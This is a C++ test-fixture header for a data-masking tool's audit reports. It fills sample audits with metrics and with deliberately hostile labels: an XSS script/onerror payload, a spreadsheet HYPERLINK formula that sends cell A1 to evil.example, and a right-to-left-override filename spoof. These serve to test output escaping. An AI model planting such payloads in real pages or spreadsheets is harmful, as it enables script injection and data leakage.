// An audit with everything in it, for tests of reports: figures of all kinds, and names that
// somebody who means harm would choose.
#pragma once

#include <fmt/format.h>

#include "semveil/finding_guide.h"
#include "semveil/report.h"

namespace semveil {

inline const std::string kScript = "<script>alert('x')</script><img src=x onerror=alert(1)>";
inline const std::string kFormula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
inline const std::string kOverride = "user\u202Etxt.exe";
inline const std::string kHebrew = "שלום עולם";
inline const std::string kFamily = "👩‍👩‍👧‍👦 family 🇨🇭";
inline const std::string kEndless(10'000, 'x');

inline AuditedColumn sample_column(const std::string& name, std::size_t values) {
  AuditedColumn column;
  column.name = name;
  column.role = Role::kQuasiIdentifier;
  column.is_masked = true;
  column.original_distinct = values;
  column.masked_distinct = values + 3;
  column.original_missing = 12;
  column.masked_missing = 12;
  column.original_unmapped = 31;
  column.mean_original = NamedConcept{"c1", "worker"};
  column.mean_masked = NamedConcept{"c2", "skilled worker"};
  column.mean_shift = 0.0714285;
  column.variance = {0.1234567, 0.1501234};
  column.expected_variance = 0.16049;
  column.rmse = 0.18765;
  column.mean_distance = 0.12;
  column.target_rmse = 0.19222;
  column.unchanged = 0.4215;
  column.total_variation = 0.08345;
  column.hellinger = 0.09123;
  column.semantic_quality = 0.912345;
  column.ic_loss = 0.01234;
  const std::vector<std::string> harmful = {kScript, kFormula, kOverride,
                                            kHebrew, kFamily,  kEndless};
  double all = 0;
  for (std::size_t i = 0; i < values; ++i) all += 1.0 / static_cast<double>(i + 1);
  for (std::size_t i = 0; i < values; ++i) {
    ValueShare share;
    share.label = i > 2 && i - 3 < harmful.size() ? harmful[i - 3]
                  : i == 0                        ? "worker"
                                                  : fmt::format("occupation of kind {}", i);
    share.original = 1.0 / static_cast<double>(i + 1) / all;
    share.masked = 1.0 / static_cast<double>(values) * 0.4 + share.original * 0.6;
    share.original_records = static_cast<std::uint64_t>(share.original * 29'988);
    column.distribution.push_back(share);
  }
  column.distances.resize(kDistanceBins);
  for (std::size_t i = 0; i < kDistanceBins; ++i) {
    column.distances[i] = i == 0 ? 12'000 : 2'400 / (i + 1);
  }
  return column;
}

inline std::vector<ClusterNode> sample_tree(std::uint32_t leaves) {
  std::vector<ClusterNode> nodes;
  for (std::uint32_t i = 0; i < leaves; ++i) {
    nodes.push_back({i, i, 0, 1000 + 137 * i, fmt::format("worker, group {}", i)});
  }
  std::uint32_t last = 0;
  for (std::uint32_t i = 1; i < leaves; ++i) {
    const auto made = static_cast<std::uint32_t>(nodes.size());
    nodes.push_back({last, i, 0.5 * i * i, 0, ""});
    last = made;
  }
  return nodes;
}

inline Audit sample_audit() {
  Audit audit;
  audit.original_records = audit.masked_records = audit.paired = 30'000;
  audit.pairing = "position";
  audit.notes = {"Column age is compared by its range."};
  audit.columns = {sample_column("occupation", 25), sample_column("father's occupation", 9),
                   sample_column(kScript, 3)};
  audit.columns[1].left_unmapped = 2;
  audit.findings = {
      make_finding("texts-released", Severity::kDanger, {"father's occupation"}, {{"records", 2}}),
      make_finding("guess-easier", Severity::kWarning, {"occupation"},
                   {{"prior", 0.112345}, {"guess", 0.512345}}),
      make_finding("k-not-promised", Severity::kNote, {}, {{"method_given", 1}}),
      make_finding("uniques-masked", Severity::kNote, {}, {{"uniques", 7'123}}),
      make_finding("method-verified", Severity::kPromise, {"occupation", kScript})};
  AuditedColumn bare;
  bare.name = "diagnosis";
  bare.role = Role::kSensitive;
  audit.columns.push_back(bare);
  const std::vector<std::string> names = {"occupation", "father's occupation", kScript,
                                          "diagnosis"};
  for (std::size_t i = 0; i < names.size(); ++i) {
    for (std::size_t j = i + 1; j < names.size(); ++j) {
      const double before = 0.9 / static_cast<double>(j + i);
      AuditedPair pair;
      pair.a = names[i];
      pair.b = names[j];
      pair.correlation = {before, before - 0.11 + 0.07 * static_cast<double>(i)};
      audit.pairs.push_back(pair);
    }
  }
  audit.pairs.back().correlation = {};
  audit.semantic_quality = 0.91234;
  audit.discernibility = 123'456;
  audit.discernibility_original = 98'765;
  audit.c_avg = 1.234;
  audit.lm = 0.0123;
  audit.ncp = 0.0234;
  Clusters clusters;
  clusters.count = 14;
  clusters.partition_distance = 0.27345;
  clusters.sampled = 8'000;
  clusters.original = sample_tree(14);
  clusters.masked = sample_tree(14);
  audit.clusters = clusters;
  audit.downstream = Downstream{"diagnosis", 0.81234, 0.76543, 0.5, 30'000};
  audit.classes_original = ClassRisk{12'345, 1, 8'765, 0, 1, 0.4115};
  audit.classes = ClassRisk{11'234, 1, 7'123, 3, 1, 0.3745};
  audit.journalist = 1.0 / 3;
  audit.privacy_original.k = 1;
  audit.privacy.k = 1;
  audit.privacy_original.sensitive = {{"diagnosis", 1, 1.0, std::nullopt, 0.41234}};
  audit.privacy.sensitive = {{"diagnosis", 2, 1.4567, 3.5, 0.31234}};
  audit.linkage = {0.0512345, 0.123456, 0.0812345, 1, 0.25, 1.0 / 30'000, 0.0312345};
  Attack attack;
  attack.name = "singling-out";
  attack.tried = 2'000;
  attack.rate = 0.0812;
  attack.interval = {0.07, 0.094};
  attack.control = 0.0123;
  attack.baseline = 0.0001;
  attack.risk = 0.0698;
  attack.risk_interval = {0.055, 0.084};
  audit.attacks.push_back(attack);
  attack.name = "linkability";
  attack.risk_interval.low = 0;
  audit.attacks.push_back(attack);
  attack.name = "inference";
  attack.about = "diagnosis";
  attack.rate = 0.62;
  attack.interval = {0.6, 0.64};
  attack.control = 0.58;
  attack.baseline = 0.41;
  audit.attacks.push_back(attack);
  audit.has_control = true;
  audit.contributions = {{"occupation", 0.021, 0.11}, {"father's occupation", 0.034, 0.15}};
  audit.risky_values = {{"occupation", "lighthouse keeper", 1, 1.0},
                        {"occupation", kScript, 3, 0.67}};
  ChannelFigures channel;
  channel.risk.columns = {"occupation"};
  channel.risk.prior = 0.112345;
  channel.risk.vulnerability = 0.512345;
  channel.risk.leakage = 2.19;
  channel.risk.expected = 0.41234;
  channel.risk.worst = 1;
  channel.risk.unchanged = 0.42;
  channel.risk.values = {{ConceptId{3}, 1, 0.91, 1, 0.5}};
  channel.values = {{"lighthouse keeper", {ConceptId{3}, 1, 0.91, 1, 0.5}}};
  audit.channels.push_back(channel);
  audit.unmasked = {"diagnosis"};
  return audit;
}

inline ReportFacts sample_facts(Edition edition) {
  ReportFacts facts;
  facts.edition = edition;
  facts.version = "0.1.0";
  facts.method = "noise";
  facts.parameters = {{"alpha", "0.3"}, {"correlated", "true"}, {"reference", "\"pair\""}};
  facts.original = {"patients.csv", std::string(64, 'a')};
  facts.masked = {"released.csv", std::string(64, 'b')};
  facts.ontologies = {
      {"words", {"wordnet-3.0", std::string(64, 'c')}, {"occupation", "father's occupation"}}};
  facts.command =
      "semveil mask patients.csv --plan plan.toml --seed '<secret>' --output released.csv";
  facts.seed = SeedState::kSecret;
  return facts;
}

inline Comparison sample_comparison() {
  Comparison comparison;
  comparison.records = 30'000;
  comparison.held_out = 6'000;
  for (int i = 0; i < 24; ++i) {
    ComparedRelease release;
    release.label =
        fmt::format("{} {} {}", i % 2 == 0 ? "noise alpha" : "swap k", i, i == 4 ? kScript : "");
    release.audit = Audit();
    release.risk = 0.4 / (1 + i);
    release.loss = 0.02 * i + (i % 3 == 0 ? 0 : 0.09);
    release.not_dominated = i % 3 == 0;
    release.risks = {{"linkage", *release.risk}};
    release.losses = {{"correlation", *release.loss}};
    release.plan = "[mask]\nmethod = \"noise\"\n";
    comparison.releases.push_back(release);
  }
  ComparedRelease failed;
  failed.label = "fuse k 50";
  failed.failure = "No class of 50 records can be made.";
  comparison.releases.push_back(failed);
  return comparison;
}

inline Reproduction sample_reproduction() {
  Reproduction reproduction;
  reproduction.experiment = {"swap", "Semantic rank swapping", "Tables 2-6 on public data", 1, ""};
  ReproducedPart part;
  part.title = "Animals, two columns";
  part.notes = {"765 records"};
  part.tables = {{"RMSE by k",
                  {"k = 2", "k = 4", "k = 8"},
                  {{"multivariate", {0.10, 0.21, 0.33}, {0.101, 0.204, 0.512}, 0.02}},
                  2}};
  ReproducedFigure drawn{"Figure 5: sdCor by k", "k", "sdCor", true, {}};
  for (const bool theirs : {true, false}) {
    for (const std::string name : {"multivariate", "fixed", "distributional-swap"}) {
      const double level = 0.9 - 0.02 * static_cast<double>(name.size()) + (theirs ? 0.03 : 0);
      drawn.curves.push_back(
          {name,
           theirs,
           {2, 4, 8, 16, 32, 64},
           {level, level - .05, level - .11, level - .2, level - .3, level - .41}});
    }
  }
  part.figures = {drawn};
  part.claims = {
      {"animals", "Multivariate keeps most of the correlation", true, "0.91 against 0.80", ""},
      {"animals", "Fixed is second", false, "0.70 against 0.80", "frequent categories"}};
  reproduction.parts = {part};
  return reproduction;
}

}  // namespace semveil
